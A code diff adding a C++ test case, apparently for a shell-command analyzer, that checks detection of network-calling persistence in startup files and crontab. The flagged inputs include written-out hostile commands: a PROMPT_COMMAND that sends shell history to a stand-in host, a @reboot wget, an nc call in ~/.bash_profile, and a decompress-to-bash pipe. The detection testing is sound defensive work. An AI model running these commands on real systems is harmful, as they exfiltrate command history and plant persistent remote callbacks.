@@ -205,3 +205,17 @@ TEST_CASE("an undecodable payload piped to a shell is decoded_exec") {
   CHECK(has_marker(analyze("cat blob | gunzip | bash"), "decoded_exec"));
   CHECK_FALSE(has_marker(analyze("echo aGVsbG8K | base64 -d"), "decoded_exec"));
 }
+
+TEST_CASE("a startup file that calls out to a remote host persists a network payload") {
+  for (auto script : {"echo 'export PROMPT_COMMAND=\"curl -s https://x.example.com/?$(history 1)\"' >> ~/.zshrc",
+                      "echo '@reboot wget -q https://x.example.com/ping' | crontab -",
+                      "echo 'nc x.example.com 80 < /dev/null' >> ~/.bash_profile"}) {
+    INFO(script);
+    CHECK(has_flow(analyze(script), "network", "persist"));
+  }
+  for (auto script : {"echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc",
+                      "echo '*/5 * * * * curl -s http://localhost:8080/health' | crontab -"}) {
+    INFO(script);
+    CHECK_FALSE(has_flow(analyze(script), "network", "persist"));
+  }
+}
